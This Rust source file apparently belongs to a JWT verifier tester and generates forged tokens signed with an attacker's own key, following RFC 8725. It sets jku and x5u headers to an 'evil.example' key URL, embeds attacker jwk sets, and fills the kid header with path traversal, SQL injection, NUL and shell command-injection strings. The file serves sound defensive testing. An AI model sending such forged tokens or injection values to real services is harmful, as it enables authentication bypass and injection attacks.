//! Keys that the token itself brings, or tells where to find (RFC 8725 §2.5, §3.5).

use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, KeyPair as _};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};

use super::Forgeries;

/// A key of the attacker's.
pub(super) struct Stranger {
    pair: EcdsaKeyPair,
    public_key: Value,
}

impl Stranger {
    pub(super) fn new() -> Self {
        let pair = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING).expect("a key");
        let point = pair.public_key().as_ref();
        let half = |from: usize| URL_SAFE_NO_PAD.encode(&point[from..from + 32]);
        let public_key = json!({"kty": "EC", "crv": "P-256", "x": half(1), "y": half(33)});
        Self { pair, public_key }
    }

    pub(super) fn sign(&self, input: &str) -> String {
        let signature = self.pair.sign(&SystemRandom::new(), input.as_bytes());
        let signature = signature.expect("a signature");
        format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature))
    }
}

impl Forgeries<'_> {
    /// RFC 8725 §2.5, §3.5: a key that the token itself brings, or tells where to find.
    pub(super) fn keys_of_the_attacker(&mut self) {
        let own = self.stranger.public_key.clone();
        let own_set = json!({"keys": [own]});
        let (kid, evil) = (
            self.original.header["kid"].clone(),
            "https://evil.example/keys",
        );
        let mut named = own.clone();
        named["kid"] = kid;
        let mut rows = vec![
            (
                "a key of the attacker's".to_owned(),
                self.original.header.clone(),
            ),
            ("jku".into(), self.with("jku", evil)),
            (
                "jku to this machine".into(),
                self.with("jku", "http://127.0.0.1:1/keys"),
            ),
            ("x5u".into(), self.with("x5u", evil)),
            (
                "x5c".into(),
                self.with("x5c", json!([STANDARD.encode([0x30, 0])])),
            ),
            (
                "x5t".into(),
                self.with("x5t", "AAAAAAAAAAAAAAAAAAAAAAAAAAA"),
            ),
            ("jwks".into(), self.with("jwks", own_set)),
        ];
        if self.original.header["jwk"].is_null() {
            rows.push(("jwk".into(), self.with("jwk", own)));
            rows.push((
                "jwk under the name of the right one".into(),
                self.with("jwk", named),
            ));
        }
        rows.extend(
            KIDS.iter()
                .map(|(what, kid)| (format!("kid {what}"), self.with("kid", *kid))),
        );
        rows.push((
            "kid of 8 KiB".into(),
            self.with("kid", "k".repeat(8 * 1024)),
        ));
        for (what, mut header) in rows {
            header["alg"] = "ES256".into();
            let token = self.stranger.sign(&self.input(&header));
            self.put(format!("by another key: {what}"), token);
        }
    }
}

/// Names of keys that are something else to somebody else.
pub(super) const KIDS: [(&str, &str); 7] = [
    ("of a path", "../../../../dev/null"),
    ("of a file", "file:///dev/null"),
    ("of SQL", "' OR 1=1 --"),
    ("of SQL that brings a key", "x' UNION SELECT 'AA' --"),
    ("of a NUL", "a\0b"),
    ("of a shell", "$(id)|id;`id`"),
    ("of nothing", ""),
];
